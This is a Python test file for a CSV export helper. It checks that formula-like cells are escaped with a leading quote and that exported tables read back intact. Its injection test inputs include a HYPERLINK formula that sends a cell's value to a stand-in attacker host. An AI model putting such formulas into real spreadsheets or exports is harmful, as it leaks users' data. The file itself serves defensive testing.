"""Tables for spreadsheets: no cell acts, and a reader of CSV finds what was written."""

import csv
from io import StringIO

import pytest

from api.csv_table import csv_response, safe_cell


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1",
     '=HYPERLINK("https://evil.example?"&A1)', "\uff1d1+1"],
)  # fmt: skip
def test_a_formula_is_a_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"), [("late", "late"), ("a=b", "a=b"), ("", ""), (None, "")]
)
def test_other_texts_stay(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(one) for one in (-0.25, 3, 0)] == ["-0.25", "3", "0"]


def test_the_table_is_read_back_with_quotes_lines_and_accents() -> None:
    rows = [('say "no", please', "zwei\nZeilen", "été"), ("a;b", "c,d", "\U0001f600")]
    answer = csv_response("t", ("one", "two", "three"), rows)
    assert answer.headers["content-disposition"] == 'attachment; filename="t.csv"'
    assert answer.body.startswith(b"\xef\xbb\xbf")
    text = bytes(answer.body).decode("utf-8-sig")
    found = list(csv.reader(StringIO(text, newline="")))
    assert [tuple(row) for row in found] == [("one", "two", "three"), *rows]
